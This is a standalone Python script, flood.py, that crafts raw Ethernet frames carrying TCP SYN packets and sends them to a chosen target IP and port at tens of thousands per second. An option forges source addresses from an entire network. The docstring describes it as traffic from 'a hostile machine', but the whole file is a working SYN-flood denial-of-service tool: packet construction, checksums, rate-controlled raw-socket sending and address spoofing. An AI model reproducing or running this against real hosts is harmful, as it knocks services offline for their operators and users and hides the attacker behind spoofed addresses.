#!/usr/bin/python3
"""SYNs of a hostile machine onto its own device, in frames of its own making. Standard library only.

``flood.py DEVICE ROUTER_MAC TARGET PORT --rate 20000 --seconds 60 [--spoof NETWORK]`` sends so many a second, from the
device's own address or from all addresses of a network, each from another port; ``--number N`` sends N and ends.
"""

from __future__ import annotations

import argparse
import contextlib
import fcntl
import ipaddress
import random
import socket
import struct
import time
from pathlib import Path

SIOCGIFADDR = 0x8915
TEMPLATES = 20_000
TICK_S = 0.005


def checksum(data: bytes) -> int:
    """Return the Internet checksum of an even number of bytes."""
    number = sum(struct.unpack(f">{len(data) // 2}H", data))
    while number >> 16:
        number = (number & 0xFFFF) + (number >> 16)
    return ~number & 0xFFFF


def syn(macs: bytes, source: bytes, target: bytes, ports: tuple[int, int]) -> bytes:
    """Return a frame with a SYN of a random sequence number."""
    header = struct.pack(">BBHHHBBH", 0x45, 0, 40, 1, 0, 64, 6, 0) + source + target
    header = header[:10] + struct.pack(">H", checksum(header)) + header[12:]
    tcp = struct.pack(">HHIIBBHHH", *ports, random.getrandbits(32), 0, 0x50, 2, 64000, 0, 0)
    total = checksum(source + target + struct.pack(">HH", 6, len(tcp)) + tcp)
    return macs + b"\x08\x00" + header + tcp[:16] + struct.pack(">H", total) + tcp[18:]


def own_address(device: str) -> str:
    """Return the device's IPv4 address."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        raw = fcntl.ioctl(one, SIOCGIFADDR, struct.pack("256s", device.encode()))
    return socket.inet_ntoa(raw[20:24])


def send(out: socket.socket, frames: list[bytes], rate: int, seconds: float) -> None:
    """Send at the rate, as well as the machine can."""
    began, sent = time.monotonic(), 0
    while (passed := time.monotonic() - began) < seconds:
        due = int(passed * rate)
        while sent < due:
            with contextlib.suppress(OSError):  # the device's queue is full
                out.send(frames[sent % len(frames)])
            sent += 1
        time.sleep(TICK_S)


def main() -> None:
    """Parse and send."""
    parser = argparse.ArgumentParser()
    parser.add_argument("device")
    parser.add_argument("mac")
    parser.add_argument("target")
    parser.add_argument("port", type=int)
    parser.add_argument("--rate", type=int, default=20_000)
    parser.add_argument("--seconds", type=float, default=1.0)
    parser.add_argument("--number", type=int, default=0)
    parser.add_argument("--spoof", default="")
    options = parser.parse_args()
    own = bytes.fromhex(Path(f"/sys/class/net/{options.device}/address").read_text().strip().replace(":", ""))
    macs = bytes.fromhex(options.mac.replace(":", "")) + own
    sources = [ipaddress.ip_address(own_address(options.device)).packed]
    if options.spoof:
        sources = [one.packed for one in ipaddress.ip_network(options.spoof).hosts()]
    target = ipaddress.ip_address(options.target).packed
    first = random.randrange(60000)  # a host may still know the half-open connections of an earlier flood
    frames = [
        syn(macs, sources[n % len(sources)], target, (1024 + (first + n // len(sources) * 3) % 60000, options.port))
        for n in range(options.number or TEMPLATES)
    ]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind((options.device, 0))
        if options.number:
            for one in frames:
                out.send(one)
        else:
            send(out, frames, options.rate, options.seconds)


if __name__ == "__main__":
    main()
